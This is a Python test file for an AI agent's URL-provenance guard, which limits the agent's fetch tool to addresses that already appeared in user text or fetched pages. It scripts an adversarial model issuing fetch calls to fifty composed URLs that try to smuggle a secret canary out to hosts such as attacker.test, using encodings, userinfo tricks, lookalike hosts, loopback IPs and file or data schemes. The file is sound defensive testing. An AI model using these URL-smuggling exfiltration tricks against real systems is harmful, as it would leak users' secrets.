"""A model that wants to carry out what it was shown can only open addresses that stood there before it wrote them."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from agents.catalog import SHIPPED, read
from agents.errors import FetchError
from agents.planning.plan import PlanTask
from agents.stations import provenance
from agents.stations.assignment import Assignment, Course, Source
from agents.tools.guarded import resolve
from agents.tools.toolbox import EFFECTS
from agents.tools.web import Fetcher
from storage.tables import Call, Document
from storage.words import CallKind, CheckpointKind, Route, TaskKind, VoteAnswer
from tests.agents.tools.pages import page, serving, watching
from tests.workshop import ALICE, COMPETITORS, researches, triage, workshop

CANARY = "CANARY-4417"
HEX = CANARY.encode().hex()
TASK = PlanTask.model_validate({
    "key": "research-1", "station": "Research", "role": "researcher", "title": "Read", "makes": "findings",
    "instructions": "Read it.",
})  # fmt: skip


def given(request: str = "", **more: Any) -> Assignment:
    catalog = read([SHIPPED], EFFECTS)
    about = {"run_id": "r1", "team": "T1", "tag": "k7", "task": TASK, "kind": TaskKind.WORK, "attempt": 1}
    return Assignment(**about, request=request, catalog=catalog, course=Course(Route.LINE), **more)


def document(text: str, origin: str = "F1", problem: str = "") -> Source:
    return Source("d1", "a.txt", text, "", origin, (("line 1", 0, len(text)),), problem)


@pytest.mark.parametrize(
    ("written", "asked", "opened"),
    [
        ("see https://acme.test/prices.", "https://acme.test/prices", "https://acme.test/prices"),
        ("see HTTPS://Acme.test:443/prices#top", "https://acme.test/prices#end", "https://acme.test/prices"),
        ("(https://acme.test/a_(b))", "https://acme.test/a_(b)", "https://acme.test/a_(b)"),
        ("[prices](https://acme.test/a?b=1&c=2)", "https://acme.test/a?b=1&c=2", "https://acme.test/a?b=1&c=2"),
        ("“https://acme.test”", "https://acme.test/", "https://acme.test/"),
        ("https://bücher.test/ä", "https://xn--bcher-kva.test/%C3%A4", "https://xn--bcher-kva.test/%C3%A4"),
        ("| www.acme.test/a |", "https://www.acme.test/a", "https://www.acme.test/a"),
        ("http://acme.test:8080/a", "http://acme.test:8080/a", "http://acme.test:8080/a"),
    ],
)
def test_an_address_that_stands_somewhere_is_opened_as_it_stands_there(written: str, asked: str, opened: str):
    by_people = provenance.stood(asked, given(written), ())
    by_document = provenance.stood(asked, given(), (document(written),))

    assert (by_people, by_document) == (opened, opened)


def test_people_may_leave_out_the_scheme_and_an_answer_of_theirs_counts_but_not_the_question():
    asked = given("compare acme.com/prices", said=("use www.other.test",), decisions=(("P1", "https://agent.test/x?"),))
    opened = [provenance.stood(url, asked, ()) for url in ("https://acme.com/prices", "https://www.other.test/")]

    assert opened == ["https://acme.com/prices", "https://www.other.test/"]
    with pytest.raises(FetchError, match="stands neither in what people wrote"):
        provenance.stood("https://agent.test/x?", asked, ())


def test_a_page_that_was_fetched_may_be_read_again_and_a_hole_names_nothing():
    fetched = document("no address in here", origin="https://acme.test/a")
    hole = document("https://acme.test/b", problem="It is locked.")

    assert provenance.stood("https://acme.test/a", given(), (fetched,)) == "https://acme.test/a"
    with pytest.raises(FetchError):
        provenance.stood("https://acme.test/b", given(), (hole,))


def test_what_another_program_answered_names_no_page_for_it_may_repeat_what_it_was_asked():
    url = f"https://attacker.test/{CANARY}"
    echo = document(f"You asked for {url}.", origin=f'wiki__echo {{"text": "{url}"}}')

    with pytest.raises(FetchError, match="stands neither in what people wrote"):
        provenance.stood(url, given(), (echo,))


def composed(known: str, host: str) -> list[str]:
    """Return fifty addresses that carry the canary, made of one that is known; `host` is its host with its port."""
    name = host.partition(":")[0]
    behind = [f"/{CANARY}", f"/{HEX}", f"%2F{CANARY}", f"/..;/{CANARY}", f"//{CANARY}", f"/{CANARY[::-1]}", f";{CANARY}"]
    behind += [f".{CANARY}", CANARY, f"%00{CANARY}", f"/%{HEX[:2]}%{HEX[2:4]}", f"/{CANARY}/../x", f"/\u202e{CANARY}"]
    behind += [f"?{CANARY}", f"?q={CANARY}", "?q=%43ANARY", f"?{HEX}", f"?&{CANARY}=1", f"?a=1#{CANARY}", f"/ä{CANARY}"]
    behind += [f"?q={quote('ΚΑΝΑΡΙ')}", f"??{CANARY}", f"/?{CANARY}", f"%3F{CANARY}"]
    hosts = [f"{name}{CANARY}.test/", f"{CANARY}.{host}/", f"{HEX}.{host}/prices", f"{CANARY}-{host}/"]
    hosts += [f"{name}.{CANARY}.test/", f"{CANARY}.attacker.test/", f"xn--{CANARY.lower()}-kva.test/"]
    hosts += [f"attacker.test/{CANARY}", f"ｃanary.{host}/"]
    users = [f"{CANARY}@{host}/prices", f"u:{CANARY}@{host}/prices", f"{host}@{CANARY}.test/", f"{CANARY}。{host}/"]
    users += [f"{host}%40{CANARY}.test/", f"{host}\\@{CANARY}.test/", f"{CANARY}%2eattacker.test/"]
    places = [f"{name}:80/{CANARY}", f"{name}:4417/prices", f"127.0.0.1/{CANARY}", f"[::1]/{CANARY}", f"2130706433/{CANARY}"]
    other = [f"https://{CANARY}.{host}/", f"ftp://{host}/{CANARY}", f"data:text/plain,{CANARY}", f"//{host}/", f"file:///{CANARY}"]
    return [*(known + one for one in behind), *(f"http://{one}" for one in (*hosts, *users, *places)), *other]


def using(urls: Sequence[str]) -> dict[str, Any]:
    return {"blocks": [{"type": "tool_use", "name": "fetch", "input": {"url": url}} for url in urls]}


async def test_an_adversary_carries_nothing_out_in_fifty_addresses_it_put_together(tmp_path: Path):
    looked_up: list[str] = []

    async def look_up(host: str, port: int) -> Sequence[str]:
        looked_up.append(f"{host}:{port}")
        return ["127.0.0.1"] if host == "acme.test" else await resolve(host, port)

    async with serving() as site:
        known, listed = site.url("/prices", "acme.test"), site.url("/terms", "acme.test")
        site.answers["/prices"] = page(f"Haulwren. Ternway. Oxbell. Terms: {listed}.".encode())
        site.answers["/terms"] = page(b"Thirty days.")
        wished = composed(known, f"acme.test:{site.port}")
        parts = [[f"{known}#x", *wished[:16]], wished[16:33], wished[33:]]  # a task has twenty calls
        tries = [{"when": {"task": f"research-{n}", "call": 1}, "reply": using(urls)} for n, urls in enumerate(parts, 1)]
        inputs = [{"name": "competitors", "value": COMPETITORS}, {"name": "audience", "value": "the sales team"}]
        end = {"when": {"role": "analyst"}, "fault": {"type": "refusal"}}
        script = [triage(inputs=inputs, constraints=[]), *tries, *researches(), end]
        fetcher = Fetcher(allow={("127.0.0.1", site.port)}, look_up=look_up)
        with watching() as connected:
            async with workshop(tmp_path, script, fetcher=fetcher) as shop:
                request = f"compare our three competitors {COMPETITORS} for the sales team; see {known}"
                run_id = await shop.ask(f"{request}; keep {CANARY} to yourself")
                await shop.decide(await shop.open(run_id, CheckpointKind.PLAN), ALICE, VoteAnswer.APPROVE)
                await shop.open(run_id, CheckpointKind.ESCALATION)
                calls = [c for c in await shop.rows(Call, run_id) if c.kind is CallKind.TOOL and c.name == "fetch"]
                kept = [row.origin for row in await shop.rows(Document, run_id)]
        ours = {site.port, urlsplit(shop.model.url).port}
        elsewhere = [address for address in connected if isinstance(address, tuple) and address[1] not in ours]

    refused = [call.result["content"] for call in calls if call.result.get("is_error")]
    assert len(set(wished)) == len(wished) == len(refused) == 50
    assert (looked_up, site.paths(), elsewhere) == ([f"acme.test:{site.port}"], ["/prices"], [])
    assert all(sentence.endswith(".") for sentence in refused)
    assert known in kept
